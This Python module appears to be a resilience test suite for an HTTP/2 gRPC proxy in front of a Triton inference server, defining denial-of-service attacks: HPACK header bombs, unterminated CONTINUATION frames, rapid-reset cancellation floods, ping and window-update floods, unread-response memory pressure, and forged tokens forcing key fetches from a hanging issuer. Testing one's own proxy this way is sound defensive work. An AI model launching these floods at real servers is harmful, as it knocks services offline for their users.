"""Attacks over gRPC."""

import base64
import json
import struct
import time

import hpack
from tidegate_proxy.http2.frames import CONTINUATION, DATA, HEADERS, PING, frame
from tidegate_proxy.http2.frames import RST_STREAM as RESET
from tidegate_proxy.http2.frames import WINDOW_UPDATE as WINDOW
from tritonclient.grpc import service_pb2 as pb

from .attackers import EACH, INFER, NO_KEY, ONE, STREAMS, WIDE, Attacker, attack

FRAME = 16_384
STREAM_INFER = "/inference.GRPCInferenceService/ModelStreamInfer"
ISSUER = "https://issuer.test"  # It never answers.
CANCELS, CANCELS_AT_ONCE = 1000, 200  # Of one connection.
CANCELLED_AFTER = 0.015  # Seconds.


def message(model: str, size: int) -> bytes:
    length = bytearray()
    left = size
    while left > 0x7F:
        length.append(left & 0x7F | 0x80)
        left >>= 7
    length.append(left)
    body = b"\x0a" + bytes((len(model),)) + model.encode() + b"\x3a" + bytes(length) + bytes(size)
    return b"\0" + len(body).to_bytes(4) + body


def data(stream: int, whole: bytes, end: bool = True) -> bytes:
    ats = range(0, len(whole), FRAME)
    return b"".join(frame(DATA, end and at + FRAME >= len(whole), stream, whole[at : at + FRAME]) for at in ats)


LARGE = message("hang", 200_000)
TABLE = [("big", "x" * 4000)]


@attack("streams whose headers expand from one table entry", NO_KEY, ONE, times=10, bytes=20_000)
def heads(attacker: Attacker) -> None:
    attacker.grpc(b"".join(attacker.calls(*TABLE * 6)))


@attack("headers that decompress to more than the limit", NO_KEY, times=0, bytes=70_000)
def long_heads(attacker: Attacker) -> None:
    attacker.grpc(b"".join(attacker.calls(*TABLE * 14))).recv(1000)


@attack("headers with endless table size updates", NO_KEY, ONE, tls=None, bytes=100_000)
def resizing_heads(attacker: Attacker) -> None:
    part = b"\x20" * 16_000
    head = frame(HEADERS, 0, 1, part) + frame(CONTINUATION, 4, 1, part)
    attacker.over_and_over(lambda: attacker.grpc(head).recv(1000))


@attack("headers that do not end", NO_KEY, times=100, bytes=300_000)
def open_heads(attacker: Attacker) -> None:
    part = b"\0\1a\x7f\x81\x7d" + b"x" * 16_000
    attacker.grpc(frame(HEADERS, 0, 1, part) + frame(CONTINUATION, 0, 1, part[:15_000]) + b"\0\x40\0\0\0")


@attack("messages for a model that hangs", ONE, EACH, times=4, bytes=10_000_000)
def hanging(attacker: Attacker) -> None:
    link = attacker.grpc()
    for number, opened in enumerate(attacker.calls()):
        if attacker.goes_on:
            attacker.send(link, opened + data(2 * number + 1, LARGE[:120_000], False))


@attack("messages that stop half way", NO_KEY, ONE, times=4, bytes=4_500_000)
def halves(attacker: Attacker) -> None:
    link = attacker.grpc(b"".join(attacker.calls()))
    for number in range(STREAMS):
        if attacker.goes_on:
            attacker.send(link, data(2 * number + 1, b"\0\0\1\xf0\0\x1a\xe0\xd4\x03" + bytes(59_000), False))


@attack("unread gRPC responses", ONE, EACH, tls=None, times=8, bytes=2_500)
def grpc_answers(attacker: Attacker) -> None:
    opened = attacker.calls()[:64]
    wide = frame(WINDOW, 0, 0, struct.pack(">L", (1 << 31) - 70_000))
    link = attacker.grpc(wide, reads=False, settings=WIDE)
    for number, each in enumerate(opened):
        attacker.send(link, each + data(2 * number + 1, message("large", 10)))


@attack("unread gRPC responses of less than a megabyte", ONE, tls=None, times=40, connections=4)
def short_answers(attacker: Attacker) -> None:
    wide = frame(WINDOW, 0, 0, struct.pack(">L", 900_000 - 65_535))
    link = attacker.grpc(wide, reads=False, settings=WIDE)
    attacker.send(link, attacker.calls(number=1)[0] + data(1, message("large", 10)))


@attack("unread refusals", NO_KEY, tls=None, bytes=400_000)
def refusals(attacker: Attacker) -> None:
    refused = b"".join(attacker.calls(path="/nothing", end=True, number=7000))
    attacker.again(lambda: attacker.send(attacker.grpc(reads=False), refused), 40)


@attack("headers that are cached", NO_KEY, bytes=180_000)
def remembered(attacker: Attacker) -> None:
    encoder, fields = hpack.Encoder(), attacker.fields("/nothing")
    sent = [frame(HEADERS, 5, 1, bytes(encoder.encode(fields)))]
    for number in range(3, 60, 2):
        big = hpack.NeverIndexedHeaderTuple("big", f"{number:04}" * 400)
        sent.append(frame(HEADERS, 5, number, bytes(encoder.encode([*fields, big]))))
    attacker.again(lambda: attacker.grpc(b"".join(sent)), 60)


@attack("window updates, reconnecting each time", NO_KEY, times=0, bytes=600_000)
def updates(attacker: Attacker) -> None:
    _chatter(attacker, frame(WINDOW, 0, 0, b"\0\0\0\1"))


@attack("pings, reconnecting each time", NO_KEY, times=0, bytes=600_000)
def pings(attacker: Attacker) -> None:
    _chatter(attacker, frame(PING, 0, 0, b"12345678"))


def _chatter(attacker: Attacker, each: bytes) -> None:
    link = attacker.grpc()
    while attacker.goes_on:
        attacker.send(link, each * 2000)


@attack("calls that are cancelled immediately", NO_KEY, ONE, times=0, cancels=2_000)
def cancelled(attacker: Attacker) -> None:
    link, encoder, number = attacker.grpc(), hpack.Encoder(), 1
    while attacker.goes_on:
        sent = []
        for _ in range(500):
            opened = frame(HEADERS, 4, number, bytes(encoder.encode(attacker.fields())))
            sent.append(opened + frame(RESET, 0, number, b"\0\0\0\x08"))
            number += 2
        attacker.send(link, b"".join(sent))
        attacker.did["cancels"] += len(sent)


@attack("calls with tokens of an issuer that hangs, cancelled", NO_KEY, times=0, cancels=1_000)
def unchecked(attacker: Attacker) -> None:
    """Each token names another key, which the proxy must fetch."""
    claims = _part({"iss": ISSUER, "sub": "x" * 300, "exp": 4_102_444_800})

    link, encoder, number = attacker.grpc(), hpack.Encoder(), 1
    while attacker.goes_on:
        numbers, opened = range(number, number + 2 * CANCELS_AT_ONCE, 2), []
        for number in numbers:
            head = _part({"alg": "RS256", "kid": f"{id(attacker)}-{attacker.did['cancels']}-{number}"})
            token = hpack.NeverIndexedHeaderTuple("authorization", f"Bearer {head}.{claims}.c2lnbmF0dXJl")
            opened.append(frame(HEADERS, 4, number, bytes(encoder.encode([*attacker.fields(), token]))))
        attacker.send(link, b"".join(opened))
        time.sleep(CANCELLED_AFTER)
        attacker.send(link, b"".join(frame(RESET, 0, each, b"\0\0\0\x08") for each in numbers))
        attacker.did["cancels"] += CANCELS_AT_ONCE
        number += 2


def _part(value: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


@attack("calls that are cancelled at a server in use by others", ONE, cancels=10_000)
def cancelled_at_the_server(attacker: Attacker) -> None:
    """The request is complete and valid for a real Triton too."""
    request = pb.ModelInferRequest(model_name="slow", raw_input_contents=[bytes(4)])
    request.inputs.add(name="INPUT", datatype="FP32", shape=[1])
    _cancel(attacker, INFER, b"\0" + request.ByteSize().to_bytes(4) + request.SerializeToString())


@attack("calls that are cancelled within their message at a server in use by others", ONE, cancels=2_000)
def cancelled_within(attacker: Attacker) -> None:
    """Triton answers each with six resets."""
    _cancel(attacker, INFER, message("echo", 1000)[:500], False)


@attack("streams that are cancelled at a server in use by others", ONE, cancels=2_000)
def cancelled_streams(attacker: Attacker) -> None:
    _cancel(attacker, STREAM_INFER, message("slow", 10), False)


def _cancel(attacker: Attacker, path: str, sent: bytes, end: bool = True) -> None:
    """Open and cancel a connection's calls by hundreds. Reconnect before the proxy closes it for that."""
    opened = attacker.calls(path=path, number=CANCELS)
    opened = [each + data(2 * number + 1, sent, end) for number, each in enumerate(opened)]
    ended = [frame(RESET, 0, 2 * number + 1, b"\0\0\0\x08") for number in range(CANCELS)]
    ats = range(0, CANCELS, CANCELS_AT_ONCE)
    rounds = [[b"".join(part[at : at + CANCELS_AT_ONCE]) for part in (opened, ended)] for at in ats]

    def once() -> None:
        link = attacker.grpc()
        for begin, end in rounds:
            if attacker.goes_on:
                attacker.send(link, begin)
                time.sleep(CANCELLED_AFTER)  # by then they have begun, but none is answered
                attacker.send(link, end)
                attacker.did["cancels"] += CANCELS_AT_ONCE
                attacker.drain(link)
        link.close()

    attacker.over_and_over(once)
